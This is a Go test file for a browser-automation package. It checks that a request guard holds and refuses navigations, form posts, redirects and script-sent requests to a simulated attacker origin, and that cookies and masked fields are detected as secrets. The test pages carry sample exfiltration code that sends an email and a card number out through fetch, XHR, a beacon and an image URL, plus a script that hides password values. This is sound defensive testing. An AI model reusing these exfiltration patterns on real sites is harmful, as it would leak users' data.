package browser

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// guardSites is a blog on one origin whose links, form and redirect lead
// to an attacker on another origin, which counts what reaches it.
func guardSites(t *testing.T) (blog *httptest.Server, hits *atomic.Int32) {
	t.Helper()
	hits = new(atomic.Int32)
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>Got it</title><p>collected</p>`)
	}))
	t.Cleanup(attacker.Close)
	// localhost, not 127.0.0.1: another origin, as a browser sees it.
	away := strings.Replace(attacker.URL, "127.0.0.1", "localhost", 1)
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>Blog</title>
<a id="out" href="%[1]s/collect?e=ada@example.com">Read more</a>
<a id="hop" href="/go">Sponsor</a>
<a id="in" href="/post">Next post</a>
<form method="post" action="%[1]s/collect"><input name="email" aria-label="Email"><button>Subscribe</button></form>`, away)
	})
	mux.HandleFunc("/go", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, away+"/collect?via=redirect", http.StatusFound)
	})
	mux.HandleFunc("/post", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>Post</title><p>second post</p>`)
	})
	blog = httptest.NewServer(mux)
	t.Cleanup(blog.Close)
	return blog, hits
}

// TestGuardHoldsDocumentRequests: a click on a link, a form's POST and a
// redirect's hop are each held for the check; a refused one never
// reaches the server and the page stays; an allowed one goes on. An
// action is answered with what became of the navigation it caused: the
// check has run by then, and an allowed navigation is reported made (one
// whose check takes a person's time: TestGuardSlowDecision).
func TestGuardHoldsDocumentRequests(t *testing.T) {
	t.Parallel()
	blog, hits := guardSites(t)
	tab, ctx := openURL(t, blog.URL+"/")
	var mu sync.Mutex
	var seen []Request
	stop, err := tab.Guard(ctx, func(ctx context.Context, r Request) error {
		mu.Lock()
		seen = append(seen, r)
		mu.Unlock()
		if strings.Contains(r.URL, "localhost") {
			return errors.New("off the sites")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	obs, err := tab.Observe(ctx, ObserveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"Read more", "Sponsor"} {
		r, err := tab.Click(ctx, find(t, obs, "link", name).Ref)
		if err != nil {
			t.Fatalf("click %s: %v", name, err)
		}
		// The guard refused the navigation before the click returned; the
		// navigation ended there.
		mu.Lock()
		n := len(seen)
		mu.Unlock()
		if r.Navigated || r.NavRequested || r.Changed || n == 0 {
			t.Fatalf("click %s: %+v after %d checks, want a navigation checked, refused and ended", name, r, n)
		}
	}
	if _, err := tab.Type(ctx, find(t, obs, "textbox", "Email").Ref, "ada@example.com", true); err != nil {
		t.Fatal(err)
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the attacker got %d requests", n)
	}
	if u := eval[string](t, tab, "location.href"); u != blog.URL+"/" {
		t.Fatalf("the page left for %s", u)
	}
	mu.Lock()
	wantPostAndHop(t, seen)
	mu.Unlock()
	obs, err = tab.Observe(ctx, ObserveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	res, err := tab.Click(ctx, find(t, obs, "link", "Next post").Ref)
	if err != nil || !res.Navigated || res.NavRequested || !strings.HasSuffix(res.URL, "/post") {
		t.Fatalf("an allowed navigation: %+v, %v", res, err)
	}
	stop()
	stop() // twice is fine
}

// wantPostAndHop fails t unless seen holds the blog form's POST with its
// body and the redirect's hop.
func wantPostAndHop(t *testing.T, seen []Request) {
	t.Helper()
	var post, redirect bool
	for _, r := range seen {
		post = post || (r.Method == "POST" && r.Body == "email=ada%40example.com")
		redirect = redirect || (r.Redirect && strings.Contains(r.URL, "via=redirect"))
	}
	if !post || !redirect {
		t.Fatalf("held requests %+v: want the form's POST with its body and the redirect's hop", seen)
	}
}

// TestSecretsCookiesAndMaskedFields: the tab's secrets are its site's
// cookies and its masked fields' values, also where the page's script
// hides those from scripts; a request held after an action carries the
// values the action read before its input, a field in a same-origin frame
// included, and not an ordinary field's.
func TestSecretsCookiesAndMaskedFields(t *testing.T) {
	t.Parallel()
	const hide = `<script>
const real = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
Object.defineProperty(HTMLInputElement.prototype, 'value', { get() { return this.type === 'password' ? '' : real.get.call(this); }, set(v) { real.set.call(this, v); } });
</script>`
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "s3cr3t-session", Path: "/"})
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html>`+hide+`<input type="password" value="hunter22"><input name="q" value="public">
<iframe src="/code" title="Code"></iframe><button onclick="fetch('/ping')">Ping</button>`)
	})
	mux.HandleFunc("/code", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><input autocomplete="one-time-code" value="424242">`)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	tab, ctx := openURL(t, srv.URL+"/")
	got, err := tab.Secrets(ctx, []string{strings.TrimPrefix(srv.URL, "http://")})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"s3cr3t-session": false, "hunter22": false}
	for _, s := range got {
		if _, ok := want[s.Value]; ok {
			want[s.Value] = true
		}
		if s.Value == "public" {
			t.Errorf("an ordinary field's value is a secret: %+v", s)
		}
	}
	for v, ok := range want {
		if !ok {
			t.Errorf("%q not among %+v", v, got)
		}
	}
	held := make(chan []string, 1)
	stop, err := tab.Guard(ctx, func(ctx context.Context, r Request) error {
		if strings.HasSuffix(r.URL, "/ping") {
			held <- r.Masked
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	obs, err := tab.Observe(ctx, ObserveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tab.Click(ctx, find(t, obs, "button", "Ping").Ref); err != nil {
		t.Fatal(err)
	}
	select {
	case m := <-held:
		slices.Sort(m)
		if !slices.Equal(m, []string{"424242", "hunter22"}) {
			t.Fatalf("the held request's masked values: %q", m)
		}
	case <-ctx.Done():
		t.Fatal("the click's request was not held")
	}
}

// TestGuardHoldsScriptRequests: what a page's script sends — fetch, XHR,
// a beacon, an added image — is held for the check too, marked as the
// script's; a refused one never reaches the server, and the page's own
// requests to its site go on.
func TestGuardHoldsScriptRequests(t *testing.T) {
	t.Parallel()
	var hits atomic.Int32
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	t.Cleanup(attacker.Close)
	away := strings.Replace(attacker.URL, "127.0.0.1", "localhost", 1)
	var own atomic.Int32
	mux := http.NewServeMux()
	mux.HandleFunc("/api", func(w http.ResponseWriter, r *http.Request) { own.Add(1); fmt.Fprint(w, "ok") })
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>Shop</title><p id="out"></p>
<button onclick="send()">Send</button>
<script>
async function send() {
  await fetch('%[1]s/f', { method: 'POST', body: 'card=4111' }).catch(() => {});
  const x = new XMLHttpRequest(); x.open('POST', '%[1]s/x'); x.send('card=4111');
  navigator.sendBeacon('%[1]s/b', 'card=4111');
  new Image().src = '%[1]s/i?card=4111';
  await fetch('/api');
  document.getElementById('out').textContent = 'sent';
}
</script>`, away)
	})
	shop := httptest.NewServer(mux)
	t.Cleanup(shop.Close)
	tab, ctx := openURL(t, shop.URL+"/")
	var mu sync.Mutex
	kinds := map[string]bool{}
	stop, err := tab.Guard(ctx, func(ctx context.Context, r Request) error {
		if !strings.Contains(r.URL, "localhost") {
			return nil
		}
		mu.Lock()
		kinds[r.URL[strings.LastIndex(r.URL, "/")+1:][:1]] = r.Script
		mu.Unlock()
		return errors.New("off the sites")
	})
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	obs, err := tab.Observe(ctx, ObserveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tab.Click(ctx, find(t, obs, "button", "Send").Ref); err != nil {
		t.Fatal(err)
	}
	if w, err := tab.Wait(ctx, WaitFor{Text: "sent"}, 10*time.Second); err != nil || !w.Met {
		t.Fatalf("the page's script did not finish: %+v, %v", w, err)
	}
	mu.Lock()
	defer mu.Unlock()
	for _, k := range []string{"f", "x", "b", "i"} {
		if !kinds[k] {
			t.Errorf("request /%s: held as the script's %v (%v)", k, kinds[k], kinds)
		}
	}
	if hits.Load() != 0 || own.Load() != 1 {
		t.Fatalf("the attacker got %d requests, the site's own API %d", hits.Load(), own.Load())
	}
}

// TestGuardSlowDecision: a guard check that takes longer than the settle
// bound (a person reading the card) holds the action's answer until it
// is decided: the allowed navigation is reported made, not "no visible
// effect" with the page moving on afterwards.
func TestGuardSlowDecision(t *testing.T) {
	t.Parallel()
	blog, _ := guardSites(t)
	tab, ctx := openURL(t, blog.URL+"/")
	reading := testBrowser.opts.SettleTimeout + 1500*time.Millisecond
	stop, err := tab.Guard(ctx, func(ctx context.Context, r Request) error {
		if strings.HasSuffix(r.URL, "/post") {
			select { // the person takes their time, then allows it
			case <-time.After(reading):
			case <-ctx.Done():
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	obs, err := tab.Observe(ctx, ObserveOptions{})
	if err != nil {
		t.Fatal(err)
	}
	r, err := tab.Click(ctx, find(t, obs, "link", "Next post").Ref)
	if err != nil || !r.Navigated || r.Took < reading || !strings.HasSuffix(r.URL, "/post") {
		t.Fatalf("a navigation allowed after %v: %+v, %v", reading, r, err)
	}
}

// openURL opens url (a page of the test's own servers) in a fresh tab,
// closed at the end of the test.
func openURL(t *testing.T, url string) (*Tab, context.Context) {
	t.Helper()
	ctx := tctx(t)
	tab, err := testBrowser.Open(ctx, url)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tab.Close(context.Background()) })
	return tab, ctx
}
